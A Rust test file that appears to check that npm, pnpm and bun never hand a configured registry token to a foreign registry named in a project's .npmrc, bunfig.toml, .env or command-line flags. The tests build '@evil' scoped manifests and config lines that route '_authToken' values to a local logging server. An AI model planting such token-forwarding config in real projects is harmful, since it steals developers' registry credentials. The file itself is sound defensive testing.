//! What a project's files say: they win over the image, and get no token.

use super::support::image::{Image, Who};
use super::tools::{with, works};

/// A registry of somebody else's: what it is asked, and whether a token came along.
const ELSEWHERE: &str = r"
import http.server
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        login = self.headers.get('authorization') or ''
        print(self.path, 'TOKEN' if 'eyJ' in login or 'ZXlK' in login else 'nothing', flush=True)
        self.send_response(404)
        self.end_headers()
    def log_message(self, *_):
        pass
http.server.ThreadingHTTPServer(('127.0.0.1', 9999), Handler).serve_forever()
";

/// What `script`, in a project, sends to the registry of somebody else's, and what it says.
fn heard(image: &Image, client: &str, script: &str) -> (String, String) {
    let script = format!(
        "cat >heard.py <<'PY'\n{ELSEWHERE}PY\n/opt/conda/bin/python heard.py >heard & listener=$!\n\
         trap 'kill $listener' EXIT\n\
         until (exec 3<>/dev/tcp/127.0.0.1/9999) 2>/dev/null; do sleep 0.05; done\n\
         export BUN_INSTALL_CACHE_DIR=$PWD/c; mkdir p; cd p\n\
         ( {script}\n) >../said 2>&1 || :\ncat ../heard; echo ===; cat ../said"
    );
    let done = image.sh(Who::Space, &with(client, &script)).success();
    let (heard, said) = done.stdout.split_once("===").expect("two parts");
    (heard.to_owned(), said.to_owned())
}

const MANIFEST: &str = "echo '{\"dependencies\":{\"@evil/foo\":\"1\"}}' >package.json;";

/// An .npmrc that sends the value of a variable elsewhere.
fn npmrc(name: &str) -> String {
    format!(
        "printf '@evil:registry=http://127.0.0.1:9999/x/\\n//127.0.0.1:9999/x/:_authToken=${{{name}}}\\nfetch-retries=0\\n' >.npmrc;"
    )
}

#[test]
fn no_file_of_a_project_is_given_the_token() {
    if !super::possible() {
        return;
    }
    let image = Image::build("npm,pnpm,bun");
    let of_npm = "npm_config_//127.0.0.1:8080/npm/d/corp-111122223333/team/:_authToken";
    for client in ["npm-10", "npm-11", "npm-newest"] {
        for name in [of_npm, "npm_config_globalconfig"] {
            let script = format!(
                "{MANIFEST} {} npm install --ignore-scripts --no-audit",
                npmrc(name)
            );
            let (heard, said) = heard(&image, client, &script);
            assert!(heard.contains("/x/@evil"), "{client}: {heard}{said}");
            assert!(!heard.contains("TOKEN"), "{client}: {heard}{said}");
        }
        // Nor do scripts have it in their environment, which many a program prints.
        let scripts = "echo '{\"scripts\":{\"install\":\"env | grep -c ey[J] >n; :\"}}' >package.json; npm install; test $(cat n) = 0";
        works(&image, Who::Space, &with(client, scripts));
    }
    for client in ["pnpm-11", "pnpm-newest"] {
        let script = format!(
            "{MANIFEST} {} pnpm install --ignore-scripts",
            npmrc("pnpm_config__auth")
        );
        let (heard, said) = heard(&image, client, &script);
        assert!(!heard.contains("TOKEN"), "{client}: {heard}{said}");
    }
    let bunfig = |token: &str| {
        format!(
            "printf '[install.scopes]\\nevil = {{ url = \"http://127.0.0.1:9999/x/\", token = \"%s\" }}\\n' '{token}' >bunfig.toml;"
        )
    };
    let by_environment = format!("echo 'MINE=$BUN_CONFIG_TOKEN' >.env; {}", npmrc("MINE"));
    let above = format!("cd ..; {} cd p;", npmrc("BUN_CONFIG_TOKEN"));
    for client in ["bun-1.2", "bun-newest"] {
        for (files, named) in [
            (npmrc("BUN_CONFIG_TOKEN"), ".npmrc"),
            (bunfig("$BUN_CONFIG_TOKEN"), "bunfig.toml"),
            (bunfig("$\\u0042UN_CONFIG_TOKEN"), "bunfig.toml"),
            (by_environment.clone(), ".env"),
            (above.clone(), ".npmrc"),
        ] {
            let install = "bun install --ignore-scripts";
            let (heard, said) = heard(&image, client, &format!("{MANIFEST} {files} {install}"));
            assert!(!heard.contains("TOKEN"), "{client}: {files}\n{heard}{said}");
            let told = said.contains("warning: bun runs without a token: `")
                && said.contains(&format!("/{named}` names $BUN_CONFIG_TOKEN"));
            assert!(told, "{client}: {files}\n{said}");
        }
        let there = format!(
            "{MANIFEST} {} cd ..; bun --cwd p install; bun --cwd=p install",
            npmrc("BUN_CONFIG_TOKEN")
        );
        for script in [
            there.as_str(),
            "bun add --registry=http://127.0.0.1:9999/x/ mirror-left",
            "bun add --registry http://127.0.0.1:9999/x/ mirror-left",
            "bun add mirror-left --registry=http://127.0.0.1:9999/x/",
        ] {
            let (heard, said) = heard(&image, client, script);
            assert!(
                !heard.contains("TOKEN"),
                "{client}: {script}\n{heard}{said}"
            );
            assert!(heard.contains("/x/"), "{client}: {script}\n{said}");
        }
        let own = "echo '{}' >package.json; bun add --registry=http://127.0.0.1:8080/npm/d/corp-111122223333/team/ mirror-left";
        let own = format!("export BUN_INSTALL_CACHE_DIR=$PWD/c; {own}");
        works(&image, Who::Space, &with(client, &own));
    }
    image.assert_no_leak();
}

#[test]
fn a_users_and_a_projects_own_registry_wins() {
    if !super::possible() {
        return;
    }
    let image = Image::build("pnpm,bun");
    let npmrc = "printf 'registry=http://127.0.0.1:9999/x/\\nfetch-retries=0\\n'";
    let bunfig = "printf '[install]\\nregistry = \"http://127.0.0.1:9999/x/\"\\n'";
    let yaml = "printf 'registries:\\n  default: http://127.0.0.1:9999/x/\\nfetchRetries: 0\\n'";
    let files = [
        ("pnpm", format!("{npmrc} >.npmrc;")),
        ("pnpm", format!("{yaml} >pnpm-workspace.yaml;")),
        ("bun", format!("{npmrc} >.npmrc;")),
        ("bun", format!("{bunfig} >bunfig.toml;")),
        (
            "pnpm",
            format!("export HOME=$PWD/h; mkdir h; {npmrc} >h/.npmrc;"),
        ),
        (
            "bun",
            format!("export HOME=$PWD/h; mkdir h; {npmrc} >h/.npmrc;"),
        ),
        (
            "bun",
            format!("export HOME=$PWD/h; mkdir h; {bunfig} >h/.bunfig.toml;"),
        ),
    ];
    for (tool, files) in &files {
        let clients = match *tool {
            "pnpm" => ["pnpm-11", "pnpm-newest"],
            _ => ["bun-1.2", "bun-newest"],
        };
        for client in clients {
            let manifest = "echo '{\"name\":\"p\",\"version\":\"1.0.0\",\"dependencies\":{\"mirror-again\":\"1.0.0\"}}' >package.json;";
            let script = format!("{files} {manifest} {tool} install");
            let (heard, said) = heard(&image, client, &script);
            assert!(
                heard.contains("/x/mirror-again nothing"),
                "{client}: {files}\n{heard}{said}"
            );
        }
    }
    image.assert_no_leak();
}
